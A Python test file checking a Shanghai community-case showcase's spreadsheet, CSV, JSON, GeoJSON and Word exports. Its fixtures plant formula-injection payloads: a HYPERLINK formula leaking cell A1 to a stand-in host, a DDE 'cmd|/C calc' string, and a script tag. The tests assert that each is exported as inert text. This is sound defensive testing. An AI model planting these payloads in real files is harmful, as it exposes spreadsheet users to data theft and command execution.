"""XLSX, CSV, JSON, GeoJSON and DOCX exports, read back with real readers, and `showcase export`."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from tests.cli.helpers import showcase
from tests.helpers import ROOT, copy_content

HOSTILE_ID = "changning-hostile-title"
HOSTILE_TITLE = '<b>A & B</b> "引号" =1+1'
MINIMAL_CASE = f"""id: {HOSTILE_ID}
title: {{zh: '{HOSTILE_TITLE}'}}
district: 长宁
year: 2023
types: [党群服务阵地]
summary: {{zh: '-2+3 开头的摘要 & <script>alert(1)</script>'}}
"""


FORMULA_ID = "changning-formula-title"
FORMULA_TITLE = '=HYPERLINK("http://x/?"&A1,"click")'
FORMULA_CASE = f"""id: {FORMULA_ID}
title: {{zh: '{FORMULA_TITLE}', en: '@SUM(1+1)*cmd|"/C calc"!A0'}}
district: 长宁
street: {{zh: '=1+1', en: '+1+1'}}
year: 2023
types: [党群服务阵地]
summary: {{zh: '#N/A', en: '-1'}}
"""


@pytest.fixture(scope="module")
def content(tmp_path_factory) -> Path:
    """The sample content plus a case with markup-like, formula-like text and no optional field,
    and one whose texts are formulas and an error value as a spreadsheet would read them."""
    cases = copy_content(tmp_path_factory.mktemp("export-content"))
    (cases / "excellent" / f"{HOSTILE_ID}.yaml").write_text(MINIMAL_CASE, encoding="utf-8")
    (cases / "excellent" / f"{FORMULA_ID}.yaml").write_text(FORMULA_CASE, encoding="utf-8")
    return cases


@pytest.fixture(scope="module")
def collection(content):
    from generator.collection import load_collection

    found, diagnostics = load_collection(content)
    assert found is not None, [d.format("en") for d in diagnostics if d.is_error]
    return found


@pytest.fixture(scope="module")
def exported(content, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exports")
    result = showcase("export", "docx", "xlsx", "csv", "json", "geojson", "-o", str(out), "--content", str(content), lang="en")
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def test_the_command_lists_what_it_wrote(exported):
    assert sorted(p.name for p in exported.iterdir()) == sorted(
        ["excellent-cases.docx", "entries.xlsx", "cases.csv", "competition-sites.csv", "milestones.csv", "entries.json", "entries.geojson"])


def test_xlsx_has_a_sheet_per_kind_with_bilingual_frozen_filtered_headers(exported, collection):
    from openpyxl import load_workbook

    book = load_workbook(exported / "entries.xlsx")
    assert book.sheetnames == ["案例", "人民坊", "大事记"]
    expected = {"案例": len(collection.cases), "人民坊": len(collection.sites), "大事记": len(collection.milestones)}
    for sheet in book.worksheets:
        headers = [c.value for c in sheet[1]]
        assert all("\n" in h for h in headers), "every header in Chinese and English"
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
        assert sheet.max_row - 1 == expected[sheet.title]
    ids = [row[0].value for row in book["案例"].iter_rows(min_row=2)]
    assert HOSTILE_ID in ids
    row = next(r for r in book["案例"].iter_rows(min_row=2) if r[0].value == HOSTILE_ID)
    assert row[1].value == HOSTILE_TITLE  # text as written, nothing escaped into it


def test_xlsx_stores_every_text_as_text_never_a_formula(exported):
    """Finding 2 of issue 13: a title =HYPERLINK(…) or a street =1+1 was a live formula in
    entries.xlsx. Read back with openpyxl and in the sheet XML itself."""
    import re
    import zipfile

    from lxml import etree
    from openpyxl import load_workbook

    book = load_workbook(exported / "entries.xlsx")
    sheet = book["案例"]
    columns = {str(c.value).split("\n")[1]: c.column for c in sheet[1]}
    row = next(r[0].row for r in sheet.iter_rows(min_row=2) if r[0].value == FORMULA_ID)
    expected = {"Title": FORMULA_TITLE, "Title (English)": '@SUM(1+1)*cmd|"/C calc"!A0', "Sub-district/town": "=1+1",
                "Sub-district/town (English)": "+1+1", "Summary": "#N/A", "Summary (English)": "-1"}
    for header, text in expected.items():
        cell = sheet.cell(row, columns[header])
        assert (cell.value, cell.data_type) == (text, "s"), header
    assert sheet.cell(row, columns["Title"]).quotePrefix  # Excel keeps it text even when the cell is edited
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(exported / "entries.xlsx") as archive:
        parts = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert len(parts) == 3
        for name in parts:
            for c in etree.fromstring(archive.read(name)).iter(f"{main}c"):
                assert c.find(f"{main}f") is None and c.get("t") not in ("e", "str"), etree.tostring(c)
                if c.find(f"{main}is") is not None:
                    assert c.get("t") == "inlineStr"


def test_xlsx_reads_back_through_the_import_to_the_same_entries(exported, collection, tmp_path):
    """Round trip: import the exported workbook into an empty content folder; every field the
    workbook carries comes back equal."""
    from generator.authoring.sheets import CASES, MILESTONES, SITES
    from generator.collection import load_collection

    empty = tmp_path / "cases"
    shutil.copytree(ROOT / "cases", empty, ignore=shutil.ignore_patterns("*.yaml", "*.jpg"))
    shutil.copy(ROOT / "cases" / "documents.yaml", empty / "documents.yaml")
    shutil.copytree(ROOT / "cases" / "statistics", empty / "statistics", dirs_exist_ok=True)
    result = showcase("import", str(exported / "entries.xlsx"), "--content", str(empty), lang="en")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "not known" not in result.stdout  # the export-only columns are skipped quietly
    assert "holds a formula" not in result.stdout  # text cells that look like formulas are text
    back, diagnostics = load_collection(empty, keep_partial=True)
    assert back is not None, [d.format("en") for d in diagnostics if d.is_error]

    def at(data, loc):
        for part in loc:
            if part == "+":
                break
            data = data.get(part) if isinstance(data, dict) else None
        return data

    for sheet, before, after in ((CASES, collection.cases, back.cases), (SITES, collection.sites, back.sites),
                                 (MILESTONES, collection.milestones, back.milestones)):
        assert set(after) == set(before), sheet.title
        for entry_id, entry in before.items():
            a, b = entry.model_dump(mode="json"), after[entry_id].model_dump(mode="json")
            for column in sheet.columns:
                if column.kind != "datum":
                    assert at(a, column.loc) == at(b, column.loc), (entry_id, column.loc)


def test_csv_has_a_bom_reads_with_pythons_csv_and_defuses_formulas(exported, collection):
    raw = (exported / "cases.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so Excel reads Chinese"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "编号 / id" and rows[0][1] == "案例名称 / Title"
    assert len(rows) - 1 == len(collection.cases)
    hostile = next(r for r in rows if r[0] == HOSTILE_ID)
    assert hostile[1] == HOSTILE_TITLE
    summary = hostile[rows[0].index("摘要 / Summary")]
    assert summary.startswith("'-2+3"), "a cell starting with - + = @ is not a formula"
    formula = next(r for r in rows if r[0] == FORMULA_ID)
    assert formula[1] == "'" + FORMULA_TITLE and formula[rows[0].index("街道/镇 / Sub-district/town")] == "'=1+1"
    for name, table in (("competition-sites.csv", collection.sites), ("milestones.csv", collection.milestones)):
        data = (exported / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and len(list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))) - 1 == len(table)


def test_json_holds_every_entry_in_a_stable_order(exported, collection):
    data = json.loads((exported / "entries.json").read_text(encoding="utf-8"))
    assert data["schema"].startswith("shanghai-15min-showcase/")
    assert sorted(c["id"] for c in data["cases"]) == sorted(collection.cases)
    assert [s["id"] for s in data["competition_sites"]] == [s.id for s in collection.sites_sorted()]
    assert [m["id"] for m in data["milestones"]] == [m.id for m in collection.milestones_sorted()]
    ningjuli = next(c for c in data["cases"] if c["id"] == "changning-ningjuli")
    assert ningjuli == {**collection.cases["changning-ningjuli"].model_dump(mode="json"), "pages": ningjuli["pages"]}
    assert ningjuli["pages"] == {"zh": "/cases/changning-ningjuli/", "en": "/en/cases/changning-ningjuli/"}


def test_geojson_is_rfc7946_with_one_feature_per_located_entry(exported, collection):
    data = json.loads((exported / "entries.geojson").read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection" and "crs" not in data
    located = {("excellent", c.id) for c in collection.cases.values() if c.location} | \
              {("competition", s.id) for s in collection.sites.values() if s.location}
    assert len(data["features"]) == len(located)
    assert {(f["properties"]["kind"], f["properties"]["id"]) for f in data["features"]} == located
    for feature in data["features"]:
        assert feature["type"] == "Feature" and set(feature) == {"type", "id", "geometry", "properties"}
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        assert 120.8 < lon < 122.2 and 30.6 < lat < 31.9, "longitude first, in Shanghai"  # RFC 7946 §3.1.1
        entry = (collection.cases if feature["properties"]["kind"] == "excellent" else collection.sites)[feature["properties"]["id"]]
        assert (round(entry.location.lon, 6), round(entry.location.lat, 6)) == (lon, lat)
        assert all(len(str(v).split(".")[-1]) <= 6 for v in (lon, lat))


def test_docx_has_one_heading_per_case_in_book_order_with_pictures_and_captions(exported, collection):
    import docx

    from generator.export import Selection, select_cases

    document = docx.Document(str(exported / "excellent-cases.docx"))
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    cases = select_cases(collection, Selection())
    assert headings == [" / ".join(dict.fromkeys(t for t in (c.title.zh, c.title.en) if t)) for c in cases]
    assert HOSTILE_TITLE in headings
    pictures = document.inline_shapes
    with_photos = [c for c in cases if any(m.kind != "video" for m in c.media)]
    assert len(pictures) >= len(with_photos)
    captions = [p.text for p in document.paragraphs if p.style.name == "Caption"]
    assert len(captions) == len(pictures) and all("占位图" in c for c in captions)  # the sample's photos are placeholders


def test_exports_are_deterministic(content, exported, tmp_path):
    result = showcase("export", "docx", "xlsx", "csv", "json", "geojson", "-o", str(tmp_path), "--content", str(content), lang="en")
    assert result.returncode == 0, result.stderr
    for path in exported.iterdir():
        assert (tmp_path / path.name).read_bytes() == path.read_bytes(), path.name


def test_export_never_overwrites_a_different_file(content, tmp_path):
    mine = tmp_path / "entries.json"
    mine.write_text("an editor's own file", encoding="utf-8")
    result = showcase("export", "json", "geojson", "-o", str(tmp_path), "--content", str(content), lang="en")
    assert result.returncode == 1 and "already exist" in result.stdout
    assert mine.read_text(encoding="utf-8") == "an editor's own file"
    assert not (tmp_path / "entries.geojson").exists(), "nothing written when anything clashes"
    assert showcase("export", "json", "-o", str(tmp_path), "--content", str(content), "--overwrite", lang="en").returncode == 0
    assert json.loads(mine.read_text(encoding="utf-8"))["cases"]


def test_selection_by_district_year_and_id(content, collection, tmp_path):
    result = showcase("export", "json", "-o", str(tmp_path / "a"), "--content", str(content), "--district", "嘉定", lang="zh")
    assert result.returncode == 0, result.stdout
    ids = {c["id"] for c in json.loads((tmp_path / "a" / "entries.json").read_text(encoding="utf-8"))["cases"]}
    assert ids == {c.id for c in collection.cases.values() if c.district == "jiading"}
    assert "已导出" in result.stdout
    result = showcase("export", "json", "-o", str(tmp_path / "b"), "--content", str(content), "--id", "changning-ningjuli", lang="en")
    assert [c["id"] for c in json.loads((tmp_path / "b" / "entries.json").read_text(encoding="utf-8"))["cases"]] == ["changning-ningjuli"]
    result = showcase("export", "json", "-o", str(tmp_path / "c"), "--content", str(content), "--year", "1999", lang="en")
    assert result.returncode == 1 and "no case matches" in result.stdout


@pytest.mark.parametrize("lang, words", [("zh", "不是上海的区；您是不是要写 长宁区 (changning)？完整列表：showcase terms district"),
                                         ("en", "is not a Shanghai district; did you mean 长宁区 (changning)? full list: showcase terms district")])
def test_bad_options_are_usage_errors_in_the_users_language(content, tmp_path, lang, words):
    result = showcase("export", "json", "-o", str(tmp_path), "--content", str(content), "--district", "长林", lang=lang)
    assert result.returncode == 2 and words in result.stderr + result.stdout
    assert not any(tmp_path.iterdir())
